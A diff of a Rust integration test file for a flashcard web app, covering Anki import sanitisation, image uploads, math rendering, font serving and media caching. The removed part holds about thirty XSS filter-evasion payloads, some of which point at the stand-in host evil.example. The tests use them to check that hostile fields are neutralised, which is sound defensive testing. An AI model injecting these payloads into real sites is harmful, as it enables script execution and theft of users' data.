@@ -6,39 +6,14 @@
 use crate::helpers::{TestApp, spawn_app, upload, upload_to};
 use reqwest::StatusCode;
 
-/// Hostile fields: OWASP filter-evasion vectors and the ways an Anki field can carry script.
-const HOSTILE: &[&str] = &[
-    r#"<script>alert(1)</script>"#,
-    r#"<img src=x onerror=alert(1)>"#,
-    r#"<img src="javascript:alert(1)">"#,
-    r#"<a href="javascript:alert(1)">x</a>"#,
-    r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
-    r#"<a href="&#106;avascript:alert(1)">x</a>"#,
-    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
-    r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#,
-    r#"<svg onload=alert(1)><script>alert(1)</script></svg>"#,
-    r#"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>"#,
-    r#"<iframe src="https://evil.example/"></iframe>"#,
-    r#"<form action="https://evil.example/"><input name=stolen><button>go</button></form>"#,
-    r#"<div style="background:url(https://evil.example/x)">x</div>"#,
-    r#"<style>body{background:url(https://evil.example/x)}</style>"#,
-    r#"<body onload=alert(1)>"#,
-    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
-    r#"<object data="javascript:alert(1)"></object>"#,
-    r#"<embed src="javascript:alert(1)">"#,
-    r##"<a href="#" onclick="alert(1)">x</a>"##,
-    r#"<IMG SRC=JaVaScRiPt:alert('XSS')>"#,
-    r#"<img """><script>alert("XSS")</script>">"#,
-    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
-    r#"<link rel=stylesheet href="https://evil.example/x.css">"#,
-    r#"<base href="https://evil.example/">"#,
-    r#"<img src="https://evil.example/track.png">"#,
-    r#"<details open ontoggle=alert(1)>"#,
-    r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
-    r#"<!--<img src="--><img src=x onerror=alert(1)//">"#,
-    r#"\(\href{javascript:alert(1)}{x}\)"#,
-    r#"<p title="\(x</p><script>alert(1)</script>\)">y</p>"#,
-];
+/// Hostile fields: OWASP filter-evasion vectors and the ways an Anki field can carry script,
+/// one a line in `tests/data/xss-vectors.txt` (src/markup.rs's unit tests read the same list).
+fn hostile() -> Vec<&'static str> {
+    include_str!("../data/xss-vectors.txt")
+        .lines()
+        .filter(|l| !l.is_empty() && !l.starts_with("# "))
+        .collect()
+}
 
 /// The tags of a page, each from `<` to its `>` outside quotes, in lower case: text between
 /// tags is escaped, so harmless whatever it says.
@@ -147,7 +122,7 @@ async fn assert_deck_pages_are_harmless(app: &TestApp, deck: i64, what: &str) ->
         .fetch_all(&app.pool().await)
         .await
         .unwrap();
-    assert!(ids.len() >= HOSTILE.len(), "{what}: {} cards", ids.len());
+    assert!(ids.len() >= hostile().len(), "{what}: {} cards", ids.len());
     for id in ids {
         let page = app.get_html(&format!("/cards/{id}")).await;
         assert_nothing_runs(&page, &format!("{what}: card {id}"));
@@ -167,7 +142,7 @@ async fn apkg(notes: &[(String, String)]) -> Vec<u8> {
 async fn hostile_anki_fields_are_neutralised_and_formatting_shows() {
     let app = spawn_app().await;
     app.register_ok("admin").await;
-    let mut notes: Vec<(String, String)> = HOSTILE
+    let mut notes: Vec<(String, String)> = hostile()
         .iter()
         .enumerate()
         .map(|(i, h)| (format!("F{i} {h}"), format!("<b>bold {i}</b> {h}")))
@@ -240,7 +215,7 @@ async fn hostile_anki_fields_are_neutralised_and_formatting_shows() {
 async fn hostile_text_files_stay_plain_text_as_before() {
     let app = spawn_app().await;
     app.register_ok("admin").await;
-    let tsv: String = HOSTILE
+    let tsv: String = hostile()
         .iter()
         .enumerate()
         .map(|(i, h)| format!("T{i} {h}\t<b>bold {i}</b>\n"))
@@ -249,7 +224,7 @@ async fn hostile_text_files_stay_plain_text_as_before() {
     assert!(r.text().await.unwrap().contains("Imported"));
     let mut writer = csv::Writer::from_writer(Vec::new());
     writer.write_record(["front", "back"]).unwrap();
-    for (i, h) in HOSTILE.iter().enumerate() {
+    for (i, h) in hostile().iter().enumerate() {
         writer
             .write_record([format!("C{i} {h}"), format!("<b>bold {i}</b>")])
             .unwrap();
@@ -282,7 +257,7 @@ async fn hostile_html_typed_in_the_editor_is_neutralised_and_formatting_shows() 
     let deck = deck_id(&app, "Typed").await;
     let edit = format!("/decks/{deck}/edit");
     let add = format!("/decks/{deck}/cards");
-    for (i, h) in HOSTILE.iter().enumerate() {
+    for (i, h) in hostile().iter().enumerate() {
         let front = format!("E{i} {h}");
         let back = format!("<b>bold {i}</b> <ol><li>first</li></ol> {h}");
         // The preview shows it, unsaved, as students would see it.
@@ -412,6 +387,7 @@ async fn an_anki_package_arrives_with_its_images_and_sounds_served_only_to_its_s
         ("hello.mp3", mp3.clone()),
         ("bomb.png", png(100_000, 100_000, "bomb")),
         ("notes.pdf", b"%PDF-1.4 not an image".to_vec()),
+        ("leftover.png", png(8, 8, "leftover")),
     ];
     let bytes = package_with_media(&notes, &files).await;
 
@@ -437,6 +413,11 @@ async fn an_anki_package_arrives_with_its_images_and_sounds_served_only_to_its_s
         "{preview}"
     );
     assert!(preview.contains("100000 by 100000"), "{preview}");
+    // A file no card names is listed, not silently dropped.
+    assert!(
+        preview.contains("1 media file is not shown on any card, so not kept: leftover.png."),
+        "{preview}"
+    );
     assert_eq!(teacher.get(&image).await.status(), StatusCode::OK);
     assert_eq!(student.get(&image).await.status(), StatusCode::NOT_FOUND);
 
@@ -699,4 +680,369 @@ async fn an_anki_export_carries_the_media_and_imports_back_to_the_same_cards() {
         }
     };
     assert_eq!(cards("Round").await, cards("Round again").await);
+}
+
+/// Posts the editor's new-card form with an image, as the "Upload image and preview" button
+/// sends it (multipart).
+async fn upload_image(
+    app: &TestApp,
+    deck: i64,
+    fields: &[(&str, &str)],
+    image: Vec<u8>,
+) -> reqwest::Response {
+    use reqwest::multipart::{Form, Part};
+    // The session's token, from a page every account sees.
+    let account = app.get_html("/account").await;
+    let mut form = Form::new().text("csrf_token", crate::helpers::csrf_in(&account));
+    for (name, value) in fields {
+        form = form.text(name.to_string(), value.to_string());
+    }
+    form = form.part("image", Part::bytes(image).file_name("net.png"));
+    app.client
+        .post(app.url(&format!("/decks/{deck}/cards/image")))
+        .multipart(form)
+        .send()
+        .await
+        .unwrap()
+}
+
+#[tokio::test]
+async fn the_editor_uploads_an_image_into_a_card_previews_it_and_the_image_goes_with_its_last_card()
+{
+    let admin = spawn_app().await;
+    admin.register_ok("admin").await;
+    let student = admin.other_browser();
+    student.register_ok("student").await;
+    let r = admin
+        .submit("/decks", "/decks", &[("name", "Pictures")])
+        .await;
+    assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    let deck = deck_id(&admin, "Pictures").await;
+    let editor = admin.get_html(&format!("/decks/{deck}/edit")).await;
+    assert!(
+        editor.contains(&format!(
+            r#"formaction="/decks/{deck}/cards/image#card-preview" formenctype="multipart/form-data""#
+        )) && editor.contains(r#"type="file" name="image""#),
+        "{editor}"
+    );
+
+    // Uploaded with the card's text: the form comes back with the image in the back (the
+    // plain text turned to HTML) and the card previewed with it; nothing is saved yet.
+    let image = png(64, 48, "network");
+    let hash = sha256(&image);
+    let r = upload_image(
+        &admin,
+        deck,
+        &[
+            ("front", "The network & its layers"),
+            ("back", "drawn below"),
+            ("format", "text"),
+            ("image_alt", "The network, drawn"),
+        ],
+        image.clone(),
+    )
+    .await;
+    assert_eq!(r.status(), StatusCode::OK);
+    let html = r.text().await.unwrap();
+    let element = format!(r#"<img src="/media/{hash}" alt="The network, drawn">"#);
+    let preview = &html[html.find("id=\"card-preview\"").expect("a preview")..];
+    assert!(preview.contains(&element), "{preview}");
+    assert!(html.contains(r#"<option value="html" selected>"#), "{html}");
+    assert!(
+        html.contains("The network &#38;amp; its layers</textarea>"),
+        "{html}"
+    );
+    let cards: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM cards WHERE deck_id = $1")
+        .bind(deck)
+        .fetch_one(&admin.pool().await)
+        .await
+        .unwrap();
+    assert_eq!(cards, 0);
+    // Its uploader sees it for the preview; nobody else does until a card uses it.
+    assert_eq!(
+        admin.get(&format!("/media/{hash}")).await.status(),
+        StatusCode::OK
+    );
+    assert_eq!(
+        student.get(&format!("/media/{hash}")).await.status(),
+        StatusCode::NOT_FOUND
+    );
+
+    // Saved, the card references /media/<hash> and its students get the file byte for byte.
+    let back = format!("drawn below<br>{element}");
+    let r = admin
+        .submit(
+            &format!("/decks/{deck}/edit"),
+            &format!("/decks/{deck}/cards"),
+            &[
+                ("front", "The network &amp; its layers"),
+                ("back", &back),
+                ("format", "html"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    let (card, stored): (i64, String) =
+        sqlx::query_as("SELECT id, back FROM cards WHERE deck_id = $1")
+            .bind(deck)
+            .fetch_one(&admin.pool().await)
+            .await
+            .unwrap();
+    assert!(stored.contains(&format!("/media/{hash}")), "{stored}");
+    let r = student.get(&format!("/media/{hash}")).await;
+    assert_eq!(r.status(), StatusCode::OK);
+    assert_eq!(r.bytes().await.unwrap().as_ref(), image.as_slice());
+    // The card's own page (the edit page's "View") shows it rendered.
+    assert!(
+        student
+            .get_html(&format!("/cards/{card}"))
+            .await
+            .contains(&element)
+    );
+
+    // A file that is not an image is refused with why, and the text typed stays.
+    let r = upload_image(
+        &admin,
+        deck,
+        &[("front", "Sound"), ("back", "kept"), ("format", "text")],
+        b"ID3\x04\0\0\0\0\0\0sound".to_vec(),
+    )
+    .await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let html = r.text().await.unwrap();
+    assert!(html.contains("The image was not kept"), "{html}");
+    assert!(html.contains(">kept</textarea>"), "{html}");
+    // Nobody who may not edit the deck uploads into it.
+    let r = upload_image(&student, deck, &[("front", "x")], png(4, 4, "x")).await;
+    assert!(
+        matches!(r.status(), StatusCode::NOT_FOUND | StatusCode::FORBIDDEN),
+        "{}",
+        r.status()
+    );
+
+    // The image no card uses any more goes with its last card.
+    let r = admin
+        .submit(
+            &format!("/cards/{card}/delete"),
+            &format!("/cards/{card}/delete"),
+            &[("confirm", "yes")],
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    let kept: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM media WHERE hash = $1")
+        .bind(&hash)
+        .fetch_one(&admin.pool().await)
+        .await
+        .unwrap();
+    assert_eq!(kept, 0);
+    assert_eq!(
+        student.get(&format!("/media/{hash}")).await.status(),
+        StatusCode::NOT_FOUND
+    );
+}
+
+#[tokio::test]
+async fn tex_in_a_front_shows_as_math_on_deck_pages_and_lists_not_as_source() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    let r = app.submit("/decks", "/decks", &[("name", "Math")]).await;
+    assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    let deck = deck_id(&app, "Math").await;
+    for (front, format) in [
+        (r"Loss \(\frac{a}{b}\) & more", "text"),
+        (r"<b>Floor</b> \(\lfloor x \rfloor\)", "html"),
+    ] {
+        let r = app
+            .submit(
+                &format!("/decks/{deck}/edit"),
+                &format!("/decks/{deck}/cards"),
+                &[("front", front), ("back", "b"), ("format", format)],
+            )
+            .await;
+        assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    }
+    let page = app.get_html(&format!("/decks/{deck}")).await;
+    assert!(
+        !page.contains(r"\frac") && !page.contains(r"\lfloor"),
+        "{page}"
+    );
+    assert!(
+        page.contains("Loss <span class=\"formula\"><math"),
+        "{page}"
+    );
+    assert!(
+        page.contains("<mfrac>") && page.contains("&amp; more"),
+        "{page}"
+    );
+    assert!(
+        page.contains("Floor <span class=\"formula\"><math"),
+        "{page}"
+    );
+    assert!(
+        !page.contains("<b>Floor"),
+        "a list line is plain text: {page}"
+    );
+}
+
+/// The table tags of a WOFF2 font's directory (WOFF2 section 5.2: a flags byte whose low six
+/// bits index the known tags, 63 for a tag written out, then base-128 lengths).
+fn woff2_tables(font: &[u8]) -> Vec<String> {
+    const KNOWN: [&str; 32] = [
+        "cmap", "head", "hhea", "hmtx", "maxp", "name", "OS/2", "post", "cvt ", "fpgm", "glyf",
+        "loca", "prep", "CFF ", "VORG", "EBDT", "EBLC", "gasp", "hdmx", "kern", "LTSH", "PCLT",
+        "VDMX", "vhea", "vmtx", "BASE", "GDEF", "GPOS", "GSUB", "EBSC", "JSTF", "MATH",
+    ];
+    let count = u16::from_be_bytes([font[12], font[13]]);
+    let mut at = 48;
+    let base128 = |at: &mut usize| {
+        let mut value: u64 = 0;
+        loop {
+            let byte = font[*at];
+            *at += 1;
+            value = (value << 7) | u64::from(byte & 0x7f);
+            if byte & 0x80 == 0 {
+                return value;
+            }
+        }
+    };
+    let mut tags = Vec::new();
+    for _ in 0..count {
+        let flags = font[at];
+        at += 1;
+        let tag = if flags & 0x3f == 63 {
+            let tag = String::from_utf8_lossy(&font[at..at + 4]).into_owned();
+            at += 4;
+            tag
+        } else {
+            KNOWN
+                .get(usize::from(flags & 0x3f))
+                .unwrap_or(&"?")
+                .to_string()
+        };
+        base128(&mut at);
+        let version = flags >> 6;
+        let transformed = if tag == "glyf" || tag == "loca" {
+            version == 0
+        } else {
+            version != 0
+        };
+        if transformed {
+            base128(&mut at);
+        }
+        tags.push(tag);
+    }
+    tags
+}
+
+#[tokio::test]
+async fn a_math_font_with_a_math_table_is_served_by_hash_for_math_only() {
+    let app = spawn_app().await;
+    let page = app.get_html("/login").await;
+    let at = page.find("/static/app.css?v=").expect("the stylesheet");
+    let css_url = &page[at..at + page[at..].find('"').unwrap()];
+    let css = app.get(css_url).await.text().await.unwrap();
+    let at = css
+        .find("/static/math.woff2?v=")
+        .expect("the font, by its hash");
+    let font_url = &css[at..at + css[at..].find('"').unwrap()];
+    assert!(
+        css.contains(&format!(
+            r#"@font-face {{ font-family: "studyhall math"; src: url("{font_url}") format("woff2")"#
+        )) && css.contains(r#"math { font-family: "studyhall math", math;"#),
+        "{css}"
+    );
+    assert_eq!(
+        css.matches("studyhall math").count(),
+        2,
+        "the font is declared once and used for math only"
+    );
+    let r = app.get(font_url).await;
+    assert_eq!(r.status(), StatusCode::OK);
+    assert_eq!(r.headers()["content-type"], "font/woff2");
+    assert!(
+        r.headers()["cache-control"]
+            .to_str()
+            .unwrap()
+            .contains("immutable")
+    );
+    let font = r.bytes().await.unwrap();
+    assert!(font.starts_with(b"wOF2"));
+    let tables = woff2_tables(&font);
+    assert!(tables.contains(&"MATH".to_owned()), "{tables:?}");
+}
+
+/// The addresses a page makes the browser fetch: its scripts', images' and sounds' `src`,
+/// and its stylesheets' and icons' `href`.
+fn subresources(html: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for tag in tags_of(html) {
+        let name: String = tag[1..]
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .collect();
+        let attribute = match name.as_str() {
+            "script" | "img" | "audio" | "source" => "src=\"",
+            "link" => "href=\"",
+            _ => continue,
+        };
+        if let Some(at) = tag.find(attribute) {
+            let value = &tag[at + attribute.len()..];
+            out.push(value[..value.find('"').unwrap_or(value.len())].to_owned());
+        }
+    }
+    out.sort();
+    out
+}
+
+#[tokio::test]
+async fn a_card_with_an_image_costs_the_review_page_one_extra_request_cached_for_good() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    let mut decks = Vec::new();
+    for name in ["Plain", "Pictured"] {
+        let r = app.submit("/decks", "/decks", &[("name", name)]).await;
+        assert_eq!(r.status(), StatusCode::SEE_OTHER);
+        decks.push(deck_id(&app, name).await);
+    }
+    let image = png(32, 32, "review");
+    let hash = sha256(&image);
+    let r = upload_image(&app, decks[1], &[("front", "f"), ("back", "b")], image).await;
+    assert_eq!(r.status(), StatusCode::OK);
+    let element = format!(r#"<img src="/media/{hash}" alt="net.png">"#);
+    for (deck, front, format) in [
+        (
+            decks[0],
+            "What does a residual block add?".to_owned(),
+            "text",
+        ),
+        (
+            decks[1],
+            format!("What does a residual block add? {element}"),
+            "html",
+        ),
+    ] {
+        let r = app
+            .submit(
+                &format!("/decks/{deck}/edit"),
+                &format!("/decks/{deck}/cards"),
+                &[("front", &front), ("back", "the input"), ("format", format)],
+            )
+            .await;
+        assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    }
+    let plain = app.get_html(&format!("/review?deck={}", decks[0])).await;
+    let pictured = app.get_html(&format!("/review?deck={}", decks[1])).await;
+    let (plain, pictured) = (subresources(&plain), subresources(&pictured));
+    let mut expected = plain.clone();
+    expected.push(format!("/media/{hash}"));
+    expected.sort();
+    assert_eq!(pictured, expected, "one request more: the image");
+    // That request is answered once and cached for good (its address is its content's hash).
+    let r = app.get(&format!("/media/{hash}")).await;
+    assert_eq!(r.status(), StatusCode::OK);
+    assert_eq!(
+        r.headers()["cache-control"],
+        "private, max-age=31536000, immutable"
+    );
+    assert_eq!(r.headers()["etag"], format!("\"{hash}\"").as_str());
 }
